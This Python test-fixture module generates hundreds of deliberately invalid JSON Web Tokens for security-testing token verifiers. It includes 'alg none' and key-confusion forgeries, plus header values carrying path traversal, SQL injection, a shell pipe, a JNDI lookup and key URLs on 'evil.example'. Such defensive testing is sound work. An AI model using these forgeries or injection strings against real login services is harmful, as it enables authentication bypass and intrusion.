"""Invalid tokens, each with one fault that its name states, and the functions that make them.

tests/impl tests the verifiers with them, tests/security the running server.
"""

from __future__ import annotations

import json
import os
import zlib
from base64 import b64encode
from collections.abc import Callable
from functools import cache, partial
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from signing import (
    AUDIENCE,
    ISSUER,
    KEYS,
    MAKE,
    PUBLISHED,
    SECRET,
    addressed,
    base64url,
    claims,
    jwk,
    key_set,
    segment,
    sign_hmac,
    sign_with,
    signature,
)

from impl.identity.caller import MAX_TOKEN_BYTES

# The same for all pytest-xdist workers, because parametrize ids contain it.
NOW = int(os.environ["TESTS_BEGAN"])
ALGORITHMS = list(KEYS)

HEADER = {"alg": "HS256", "typ": "JWT"}
GOOD = sign_hmac(HEADER, claims(exp=4102444800))

# Claims with two `sub` members: parsers differ in which of the two they keep.
TWICE = json.dumps(addressed(sub="eve")).encode()[:-1] + b', "sub": "ada"}'

# Types of other tokens that a login service may sign with the same keys (RFC 8725, section 3.11).
OTHER_TYPES = (
    *("logout+jwt", "secevent+jwt", "dpop+jwt", "oauth-authz-req+jwt", "id_token", "JWE", "JOSE"),
    *("", "none", "J\u03a9T", "JWT ", "application/application/jwt", 1, None, ["JWT"], {"JWT": 1}),
)

# Values of `kid` for verifiers that use it as a file name, URL, SQL or command, and the key that they would
# get.
KID_SECRETS = {
    "/dev/null": b"",
    "../../../../../dev/null": b"",
    "file:///proc/sys/kernel/randomize_va_space": b"2\n",
    "https://evil.example/key": b"evil",
    "x' UNION SELECT 'evil' --": b"evil",
    "key\0.pem": b"",
    "| echo evil": b"evil\n",
}


def header(algorithm: str, **changes: object) -> dict[str, object]:
    """Return a header as better-auth 1.7 writes it, with `changes`; None removes a parameter."""
    good: dict[str, object] = {"alg": algorithm, "kid": algorithm}
    return {name: value for name, value in (good | changes).items() if value is not None}


def other(algorithm: str) -> str:
    return ALGORITHMS[ALGORITHMS.index(algorithm) - 1]


def public_forms(algorithm: str) -> dict[str, bytes]:
    """Return the public key in every form that a careless verifier could use as an HMAC secret."""
    public = KEYS[algorithm].public_key()
    der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    member = next(member for member in PUBLISHED if member["kid"] == algorithm)
    forms = {"DER": der, "PEM": pem, "PEM without line break": pem.rstrip(), "JWK": key_set(member)[10:-2]}
    forms |= {name: member[name].encode() for name in ("x", "n") if name in member}
    forms |= {"DER in base64": b64encode(der), "PEM with CRLF": pem.replace(b"\n", b"\r\n")}
    return forms


def changed_headers(**changes: object) -> Callable[[str], str]:
    return lambda a: sign_with(KEYS[a], header(a, **changes), addressed())


def changed_claims(**changes: object) -> Callable[[str], str]:
    return lambda a: sign_with(KEYS[a], header(a), addressed(**changes))


def raw_payload(payload: object) -> Callable[[str], str]:
    return lambda a: sign_with(KEYS[a], header(a), payload)


def raw_header(raw: object) -> Callable[[str], str]:
    return lambda a: sign_with(KEYS[a], raw, addressed())


def parts(a: str) -> list[str]:
    return sign_with(KEYS[a], header(a), addressed()).split(".")


@cache
def unpublished_key(algorithm: str) -> Any:
    """A key that is not published."""
    return MAKE[algorithm]()


def public_der(private: Any) -> bytes:
    der: bytes = private.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return der


def unencoded(a: str) -> str:
    """Return a token with an unencoded payload (RFC 7797)."""
    head, payload = segment(header(a, b64=False, crit=["b64"])), json.dumps(addressed())
    return f"{head}.{payload}.{base64url(signature(KEYS[a], f'{head}.{payload}'.encode()))}"


def beyond(token: str) -> str:
    """Return another encoding of the same bytes: the last character has unused bits."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return token[:-1] + alphabet[alphabet.index(token[-1]) + 1]


def sized(a: str, length: int, **changes: object) -> str:
    """Return a valid token with exactly this length, and with these claims changed."""
    sign = sign_hmac if a == "HS256" else partial(sign_with, KEYS[a])
    for more in ("", "x"):
        head = header(a, more=more)
        left = length - len(sign(head, b""))
        # No segment has a length of 4n + 1.
        if left % 4 != 1:
            break
    filling = left * 3 // 4 - len(json.dumps(addressed(more="", **changes)))
    return sign(head, addressed(more="x" * filling, **changes))


# --- Claims -------------------------------------------------------------------------------------------

LATER = NOW + 7200
BAD_EXP: list[object] = [NOW - 1, NOW - 0.5, 0, -1, True, str(LATER), "", [LATER], {}, 10**15, 10**400, 1e300]
BAD_IAT: list[object] = ["0", False, -1, [], 10**15]
BAD_NBF: list[object] = ["0", True, [], NOW + 3600]
BAD_SUB: list[object] = [
    "",
    "x" * 129,
    ".",
    "..",
    ".x",
    "a b",
    "a/b",
    "a%2Fb",
    "é",
    "a\x00",
    "a\n",
    "\ud800",
    1,
    True,
    ["ada"],
    {},
]


# --- With a shared secret (HS256) ---------------------------------------------------------------------

SHARED_SECRET: dict[str, str] = {
    "empty": "",
    "dots": "..",
    "many dots": "." * 9000,
    "one segment": "abc",
    "four segments": GOOD + ".e30",
    "non-ASCII": GOOD[:-1] + "é",
    "lone surrogate": GOOD + "\ud800",
    "NUL": GOOD + "\x00",
    "space": GOOD + " ",
    "line break": GOOD + "\n",
    "padding": GOOD + "=",
    "skipped characters": GOOD.replace(".", ".!", 1),
    "standard base64": GOOD.replace("_", "/").replace("-", "+") + "+",
    "too long": sign_hmac(HEADER, claims(exp=4102444800, more="x" * MAX_TOKEN_BYTES)),
    "other secret": sign_hmac(HEADER, claims(), key=b"x" * 32),
    "empty secret": sign_hmac(HEADER, claims(), key=b""),
    "no signature": GOOD.rpartition(".")[0] + ".",
    "changed payload": ".".join([GOOD.split(".")[0], segment(claims(sub="bob")), GOOD.split(".")[2]]),
    "alg none": sign_hmac(HEADER | {"alg": "none"}, claims()),
    "alg none, unsigned": sign_hmac(HEADER | {"alg": "none"}, claims()).rpartition(".")[0] + ".",
    "alg absent": sign_hmac({"typ": "JWT"}, claims()),
    "alg null": sign_hmac({"alg": None}, claims()),
    "alg in lower case": sign_hmac({"alg": "hs256"}, claims()),
    "alg a prefix of HS256": sign_hmac({"alg": "HS"}, claims()),
    "alg a list": sign_hmac({"alg": ["HS256"]}, claims()),
    "alg HS512": sign_hmac({"alg": "HS512"}, claims(), digest="sha512"),
    "alg RS256": sign_hmac({"alg": "RS256"}, claims()),
    "alg EdDSA with a public key as the secret": sign_hmac(
        {"alg": "EdDSA"}, claims(), key=public_forms("EdDSA")["DER"]
    ),
    "public key as the secret": sign_hmac(HEADER, claims(), key=public_forms("EdDSA")["DER"]),
    "crit": sign_hmac(HEADER | {"crit": ["b64"], "b64": False}, claims()),
    "crit empty": sign_hmac(HEADER | {"crit": []}, claims()),
    "b64": sign_hmac(HEADER | {"b64": True}, claims()),
    "header not an object": sign_hmac(["HS256"], claims()),
    "header not JSON": sign_hmac(b"{", claims()),
    "header not UTF-8": sign_hmac(b"\xff", claims()),
    "header nested deeply": sign_hmac(b"[" * 5000, claims()),
    "payload not JSON": sign_hmac(HEADER, b"{"),
    "payload not UTF-8": sign_hmac(HEADER, b'{"sub": "\xff"}'),
    "payload a list": sign_hmac(HEADER, [claims()]),
    "payload null": sign_hmac(HEADER, None),
    "payload empty": sign_hmac(HEADER, b""),
    "payload nested deeply": sign_hmac(HEADER, b"[" * 5000),
    "exp of 5000 digits": sign_hmac(HEADER, b'{"sub": "ada", "exp": ' + b"9" * 5000 + b"}"),
    "exp 1e999": sign_hmac(HEADER, b'{"sub": "ada", "exp": 1e999}'),
    "exp NaN": sign_hmac(HEADER, claims(exp=float("nan"))),
    "exp Infinity": sign_hmac(HEADER, claims(exp=float("inf"))),
    "nbf NaN": sign_hmac(HEADER, claims(nbf=float("nan"))),
    **{f"exp {value!r}"[:24]: sign_hmac(HEADER, claims(exp=value)) for value in BAD_EXP},
    "exp absent": sign_hmac(HEADER, claims(exp=None)),
    "exp null": sign_hmac(HEADER, claims() | {"exp": None}),
    **{f"iat {value!r}": sign_hmac(HEADER, claims(iat=value)) for value in BAD_IAT},
    "iat null": sign_hmac(HEADER, claims() | {"iat": None}),
    **{f"nbf {value!r}": sign_hmac(HEADER, claims(nbf=value)) for value in BAD_NBF},
    **{f"sub {value!r}"[:20]: sign_hmac(HEADER, claims(sub=value)) for value in BAD_SUB},
    "sub absent": sign_hmac(HEADER, claims(sub=None)),
    "sub null": sign_hmac(HEADER, claims() | {"sub": None}),
    "header with two alg": sign_hmac(b'{"alg": "none", "alg": "HS256"}', claims()),
    "header in UTF-16": sign_hmac(json.dumps(HEADER).encode("utf-16"), claims()),
    "payload in UTF-16": sign_hmac(HEADER, json.dumps(claims()).encode("utf-16")),
    "payload with a byte order mark": sign_hmac(HEADER, json.dumps(claims()).encode("utf-8-sig")),
    "two sub claims": sign_hmac(HEADER, TWICE),
    "unused bits set": GOOD[:-1] + chr(ord(GOOD[-1]) + 1),
    "secret as an HMAC of 384 bits": sign_hmac({"alg": "HS384"}, claims(), digest="sha384"),
    "secret in base64": sign_hmac(HEADER, claims(), key=b64encode(SECRET.encode())),
    "secret with a line break": sign_hmac(HEADER, claims(), key=SECRET.encode() + b"\n"),
    "secret cut short": sign_hmac(HEADER, claims(), key=SECRET.encode()[:-1]),
    "secret with NUL": sign_hmac(HEADER, claims(), key=SECRET.encode() + b"\0x"),
    **{
        f"secret from kid {kid}": sign_hmac(HEADER | {"kid": kid}, claims(), key=key)
        for kid, key in KID_SECRETS.items()
    },
    "jwk that is a secret": sign_hmac(
        HEADER | {"jwk": {"kty": "oct", "k": segment(b"x" * 32)}}, claims(), key=b"x" * 32
    ),
    **{f"typ {typ!r}": sign_hmac(HEADER | {"typ": typ}, claims()) for typ in OTHER_TYPES},
    "a token in a token": sign_hmac(HEADER | {"cty": "JWT"}, GOOD.encode()),
    "compressed": sign_hmac(HEADER | {"zip": "DEF"}, zlib.compress(json.dumps(claims()).encode())),
}


# --- With a key set (EdDSA, ES256, RS256) -------------------------------------------------------------

NONE = ("none", "None", "NONE", "nOnE", "none ", " none", "", "null", "n\u00f6ne")
OTHER_ALGORITHMS = (
    "ES384",
    "ES512",
    "ES256K",
    "RS384",
    "RS512",
    "PS256",
    "HS384",
    "HS512",
    "Ed25519",
    "Ed448",
)
STRANGE_KIDS: list[object] = [
    "",
    1,
    True,
    ["EdDSA"],
    {},
    "unknown",
    "../../etc/passwd",
    "' OR 1=1",
    "eddsa",
    "EdDSA\0",
    "EdDSA ",
    "\u0415dDSA",
    "\ud800",
    "https://evil.example/jwks#EdDSA",
    "${jndi:ldap://evil.example/a}",
    "__proto__",
    *KID_SECRETS,
    "x" * 4000,
]
BAD_EXP: list[object] = [
    NOW - 1,
    0,
    -1,
    True,
    str(NOW + 60),
    "",
    [NOW + 60],
    {},
    10**15,
    10**400,
    1e300,
]
BAD_SUB: list[object] = [
    "",
    " ",
    "x" * 129,
    "..",
    "a b",
    "a/b",
    "é",
    "a\x00",
    "\ud800",
    1,
    True,
    ["ada"],
    {},
]
BAD_AUD: list[object] = [AUDIENCE + "/", "better-auth:session-cache", "", 1, [], [[AUDIENCE]], {AUDIENCE: 1}]
EMBEDDED = jwk(MAKE["EdDSA"]())

EACH: dict[str, Callable[[str], str]] = {
    **{f"alg {alg!r}": changed_headers(alg=alg) for alg in NONE},
    "alg none and no signature": lambda a: ".".join(
        [segment(header(a, alg="none")), segment(addressed()), ""]
    ),
    "alg none, typ JWT": changed_headers(alg="none", typ="JWT"),
    "alg absent": changed_headers(alg=None),
    "alg null": lambda a: sign_with(KEYS[a], header(a) | {"alg": None}, addressed()),
    "alg a list": lambda a: sign_with(KEYS[a], header(a) | {"alg": [a]}, addressed()),
    "alg a number": changed_headers(alg=1),
    "alg in another case": lambda a: sign_with(KEYS[a], header(a, alg=a.lower()), addressed()),
    **{f"alg {alg}": changed_headers(alg=alg) for alg in OTHER_ALGORITHMS},
    "alg of another key": lambda a: sign_with(KEYS[a], header(a, alg=other(a)), addressed()),
    "kid of another key": lambda a: sign_with(KEYS[a], header(a, kid=other(a)), addressed()),
    "alg and kid of another key": lambda a: sign_with(KEYS[a], header(other(a)), addressed()),
    "a key that is not in the set": lambda a: sign_with(MAKE[a](), header(a), addressed()),
    "HS256 with another secret and the kid of a key": lambda a: sign_hmac(
        header(a, alg="HS256"), addressed(), SECRET.encode() + b"!"
    ),
    **{
        f"HS256 with a public key ({form})": lambda a, form=form: sign_hmac(
            header(a, alg="HS256"), addressed(), public_forms(a).get(form, b"\0")
        )
        for form in ("DER", "PEM", "PEM without line break", "JWK", "x", "n")
    },
    "HMAC with a public key, alg of the key": lambda a: sign_hmac(
        header(a), addressed(), public_forms(a)["PEM"]
    ),
    "HS256 with an empty secret": lambda a: sign_hmac(header(a, alg="HS256"), addressed(), b""),
    "kid absent": changed_headers(kid=None),
    "kid null": lambda a: sign_with(KEYS[a], header(a) | {"kid": None}, addressed()),
    **{f"kid {kid!r}"[:30]: changed_headers(kid=kid) for kid in STRANGE_KIDS},
    "jku": changed_headers(jku="https://evil.example/jwks"),
    "jwk": changed_headers(jwk=EMBEDDED),
    "jwk of the key itself": lambda a: sign_with(KEYS[a], header(a, jwk=jwk(KEYS[a])), addressed()),
    "x5u": changed_headers(x5u="https://evil.example/cert"),
    "x5c": changed_headers(x5c=["MIIB"]),
    "crit": changed_headers(crit=["exp"]),
    "crit empty": changed_headers(crit=[]),
    "crit with b64": changed_headers(crit=["b64"], b64=False),
    "b64 false": changed_headers(b64=False),
    "b64 true": changed_headers(b64=True),
    "header a list": lambda a: sign_with(KEYS[a], [a], addressed()),
    "header not JSON": raw_header(b"{"),
    "header empty": raw_header(b""),
    "header not UTF-8": raw_header(b'{"alg": "\xff"}'),
    "header in UTF-16": lambda a: sign_with(KEYS[a], json.dumps(header(a)).encode("utf-16"), addressed()),
    "header nested deeply": raw_header(b"[" * 5000),
    "header with a number of 5000 digits": raw_header(b'{"alg": ' + b"9" * 5000 + b"}"),
    "payload not JSON": raw_payload(b"{"),
    "payload empty": raw_payload(b""),
    "payload not UTF-8": raw_payload(b'{"sub": "\xff"}'),
    "payload null": raw_payload(None),
    "payload a list": raw_payload([addressed()]),
    "payload a string": raw_payload("ada"),
    "payload nested deeply": raw_payload(b"[" * 5000),
    "payload with objects nested deeply": raw_payload(b'{"a":' * 1000),
    "exp of 5000 digits": raw_payload(b'{"exp": ' + b"9" * 5000 + b"}"),
    "exp 1e999": changed_claims(exp=float("inf")),
    "exp NaN": changed_claims(exp=float("nan")),
    "exp absent": changed_claims(exp=None),
    "exp null": lambda a: sign_with(KEYS[a], header(a), addressed() | {"exp": None}),
    **{f"exp {value!r}"[:24]: changed_claims(exp=value) for value in BAD_EXP},
    **{f"nbf {value!r}": changed_claims(nbf=value) for value in (*BAD_NBF, float("nan"))},
    **{f"iat {value!r}": changed_claims(iat=value) for value in BAD_IAT},
    "sub absent": changed_claims(sub=None),
    **{f"sub {value!r}"[:20]: changed_claims(sub=value) for value in BAD_SUB},
    "iss absent": changed_claims(iss=None),
    **{
        f"iss {value!r}": changed_claims(iss=value)
        for value in (ISSUER + "/", ISSUER.upper(), "https://evil.example", "", 1, [ISSUER])
    },
    "aud absent": changed_claims(aud=None),
    **{f"aud {value!r}": changed_claims(aud=value) for value in BAD_AUD},
    "JWE": lambda a: ".".join(["eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0", "", "AAAA", "AAAA", "AAAA"]),
    "JWE of five full segments": lambda a: ".".join(parts(a) + parts(a)[:2]),
    "no signature": lambda a: ".".join([*parts(a)[:2], ""]),
    "signature of one byte": lambda a: ".".join([*parts(a)[:2], "AA"]),
    "signature cut short": lambda a: ".".join([*parts(a)[:2], parts(a)[2][:-4]]),
    "signature too long": lambda a: ".".join([*parts(a)[:2], parts(a)[2] + "AAAA"]),
    "signature of zeros": lambda a: ".".join([*parts(a)[:2], base64url(bytes(64 if a != "RS256" else 256))]),
    "another token's payload": lambda a: ".".join([parts(a)[0], segment(addressed(sub="bob")), parts(a)[2]]),
    "space in front": lambda a: " " + ".".join(parts(a)),
    "line break at the end": lambda a: ".".join(parts(a)) + "\n",
    "padding": lambda a: ".".join(parts(a)) + "==",
    "too long": changed_claims(more="x" * MAX_TOKEN_BYTES),
    "1 MB of header": lambda a: ".".join([segment(header(a, more="x" * 2**20)), *parts(a)[1:]]),
    "1 MB of dots": lambda a: "." * 2**20,
    "header with two alg": lambda a: sign_with(
        KEYS[a], f'{{"alg": "none", "alg": "{a}", "kid": "{a}"}}'.encode(), addressed()
    ),
    "header with two kid": lambda a: sign_with(
        KEYS[a], f'{{"alg": "{a}", "kid": "{other(a)}", "kid": "{a}"}}'.encode(), addressed()
    ),
    "header with a byte order mark": lambda a: sign_with(
        KEYS[a], json.dumps(header(a)).encode("utf-8-sig"), addressed()
    ),
    "two sub claims": raw_payload(TWICE),
    "payload in UTF-16": raw_payload(json.dumps(addressed()).encode("utf-16")),
    "payload with a byte order mark": raw_payload(json.dumps(addressed()).encode("utf-8-sig")),
    "a token in a token": lambda a: sign_with(KEYS[a], header(a, cty="JWT"), ".".join(parts(a)).encode()),
    "compressed": lambda a: sign_with(
        KEYS[a], header(a, zip="DEF"), zlib.compress(json.dumps(addressed()).encode())
    ),
    "unencoded payload": lambda a: unencoded(a),
    "b64 as a string": changed_headers(b64="false"),
    **{
        f"typ {typ!r}": lambda a, typ=typ: sign_with(KEYS[a], header(a) | {"typ": typ}, addressed())
        for typ in OTHER_TYPES
    },
    "an unknown key in jwk": lambda a: sign_with(
        unpublished_key(a),
        header(a, kid="unpublished", jwk=jwk(unpublished_key(a), kid="unpublished")),
        addressed(),
    ),
    "an unknown key in jwk, with a known kid": lambda a: sign_with(
        unpublished_key(a), header(a, jwk=jwk(unpublished_key(a), kid=a)), addressed()
    ),
    "an unknown key set in jku": lambda a: sign_with(
        unpublished_key(a), header(a, jku="https://evil.example/jwks"), addressed()
    ),
    "jku of the login service itself": changed_headers(jku=f"{ISSUER}/api/auth/jwks"),
    "jku as a data URL": lambda a: sign_with(
        unpublished_key(a),
        header(a, jku=f"data:application/json;base64,{base64url(key_set(jwk(unpublished_key(a), kid=a)))}"),
        addressed(),
    ),
    "an unknown certificate in x5c": lambda a: sign_with(
        unpublished_key(a), header(a, x5c=[b64encode(public_der(unpublished_key(a))).decode()]), addressed()
    ),
    "an unknown certificate in x5u": lambda a: sign_with(
        unpublished_key(a), header(a, x5u="https://evil.example/cert.pem"), addressed()
    ),
    "HMAC of 384 bits with a public key": lambda a: sign_hmac(
        header(a, alg="HS384"), addressed(), public_forms(a)["PEM"], "sha384"
    ),
    "HMAC of 512 bits with a public key": lambda a: sign_hmac(
        header(a, alg="HS512"), addressed(), public_forms(a)["DER"], "sha512"
    ),
    "HS256 with a public key and no kid": lambda a: sign_hmac(
        {"alg": "HS256"}, addressed(), public_forms(a)["DER"]
    ),
    "two segments": lambda a: ".".join(parts(a)[:2]),
    "one segment": lambda a: parts(a)[0],
    "segments in another order": lambda a: ".".join(parts(a)[i] for i in (1, 0, 2)),
    "segments from the last to the first": lambda a: ".".join(reversed(parts(a))),
    "signature in front": lambda a: ".".join(parts(a)[i] for i in (2, 0, 1)),
    "header as payload": lambda a: ".".join(parts(a)[i] for i in (0, 0, 2)),
    "signature of another algorithm": lambda a: ".".join([*parts(a)[:2], parts(other(a))[2]]),
    "signature of the payload alone": lambda a: ".".join(
        [*parts(a)[:2], base64url(signature(KEYS[a], parts(a)[1].encode()))]
    ),
    "signature given twice": lambda a: ".".join([*parts(a)[:2], parts(a)[2] + parts(a)[2]]),
    "empty segments": lambda a: "..",
    "header segment empty": lambda a: ".".join(["", *parts(a)[1:]]),
    "payload segment empty": lambda a: ".".join([parts(a)[0], "", parts(a)[2]]),
    "JSON serialization, flattened": lambda a: json.dumps(
        dict(zip(("protected", "payload", "signature"), parts(a), strict=True))
    ),
    "JSON serialization, general": lambda a: json.dumps(
        {"payload": parts(a)[1], "signatures": [{"protected": parts(a)[0], "signature": parts(a)[2]}]}
    ),
    "in quotation marks": lambda a: f'"{".".join(parts(a))}"',
    "percent-encoded": lambda a: "%2E".join(parts(a)),
    "full-width dots": lambda a: "\uff0e".join(parts(a)),
    "a Cyrillic letter that looks Latin": lambda a: ".".join(parts(a)).replace("e", "\u0435", 1),
    "a zero-width space": lambda a: ".".join(parts(a)).replace(".", "\u200b.", 1),
    "a space within": lambda a: ". ".join(parts(a)),
    "a tab within": lambda a: ".\t".join(parts(a)),
    "two tokens with a comma": lambda a: ",".join([".".join(parts(a))] * 2),
    "a semicolon at the end": lambda a: ".".join(parts(a)) + ";",
    "standard base64": lambda a: ".".join([*parts(a)[:2], parts(a)[2] + "+/"]),
    "unused bits set": lambda a: beyond(".".join(parts(a))),
    "one byte over the limit": lambda a: sized(a, MAX_TOKEN_BYTES + 1),
    "header nested 900 deep": raw_header(b'{"alg": ' + b"[" * 900 + b"]" * 900 + b"}"),
    "claims nested 2000 deep": raw_payload(b'{"sub": "ada", "a": ' + b"[" * 2000 + b"]" * 2000 + b"}"),
}


# The group orders of ES256 and EdDSA: numbers that differ by the order are equivalent.
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493

_NUMBERS = {"0": 0, "1": 1, "n": P256_ORDER, "n - 1": P256_ORDER - 1}


def signed_as(a: str, sign: Callable[[bytes], bytes]) -> str:
    """Return a token that is valid except for its signature."""
    signed = f"{segment(header(a))}.{segment(addressed())}"
    return f"{signed}.{base64url(sign(signed.encode()))}"


def pair(r: int, s: int) -> bytes:
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def numbers_of(signed: bytes) -> tuple[int, int]:
    raw = signature(KEYS["ES256"], signed)
    return int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")


def eddsa_plus_order(signed: bytes) -> bytes:
    raw = signature(KEYS["EdDSA"], signed)
    return raw[:32] + (int.from_bytes(raw[32:], "little") + ED25519_ORDER).to_bytes(32, "little")


def rsa_signature(signed: bytes, scheme: Any, digest: hashes.HashAlgorithm) -> bytes:
    private = KEYS["RS256"]
    assert isinstance(private, rsa.RSAPrivateKey)
    return private.sign(signed, scheme, digest)


def ecdsa_der(signed: bytes) -> bytes:
    return encode_dss_signature(*numbers_of(signed))


OF_ONE: dict[str, Callable[[], str]] = {
    **{
        f"ES256: r = {r}, s = {s}": partial(
            signed_as, "ES256", lambda _, r=r, s=s: pair(_NUMBERS[r], _NUMBERS[s])
        )
        for r in ("0", "1", "n", "n - 1")
        for s in ("0", "1", "n")
    },
    "ES256: r = 0": lambda: signed_as("ES256", lambda signed: pair(0, numbers_of(signed)[1])),
    "ES256: s = 0": lambda: signed_as("ES256", lambda signed: pair(numbers_of(signed)[0], 0)),
    "ES256: r and s swapped": lambda: signed_as("ES256", lambda signed: pair(*reversed(numbers_of(signed)))),
    "ES256: in DER": lambda: signed_as("ES256", ecdsa_der),
    "ES256: of the SHA-512": lambda: signed_as(
        "ES256", lambda signed: signature(KEYS["ES256"], signed, hashes.SHA512())
    ),
    "ES256: of 63 bytes": lambda: signed_as("ES256", lambda signed: signature(KEYS["ES256"], signed)[1:]),
    "EdDSA: S plus the order of the group": lambda: signed_as("EdDSA", eddsa_plus_order),
    "EdDSA: S = 0 and R neutral": lambda: signed_as("EdDSA", lambda _: b"\1" + bytes(63)),
    "EdDSA: R alone": lambda: signed_as("EdDSA", lambda signed: signature(KEYS["EdDSA"], signed)[:32]),
    "RS256: PSS": lambda: signed_as(
        "RS256",
        lambda signed: rsa_signature(signed, padding.PSS(padding.MGF1(hashes.SHA256()), 32), hashes.SHA256()),
    ),
    "RS256: of the SHA-1": lambda: signed_as(
        "RS256",
        lambda signed: rsa_signature(signed, padding.PKCS1v15(), hashes.SHA1()),  # noqa: S303
    ),
    "RS256: of the SHA-512": lambda: signed_as(
        "RS256", lambda signed: rsa_signature(signed, padding.PKCS1v15(), hashes.SHA512())
    ),
    "RS256: one": lambda: signed_as("RS256", lambda _: (1).to_bytes(256, "big")),
    "RS256: with a leading zero byte": lambda: signed_as(
        "RS256", lambda signed: b"\0" + signature(KEYS["RS256"], signed)
    ),
}

KEY_SET: dict[str, Callable[[], str]] = {
    f"{algorithm}: {name}": partial(build, algorithm)
    for algorithm in ALGORITHMS
    for name, build in EACH.items()
} | OF_ONE
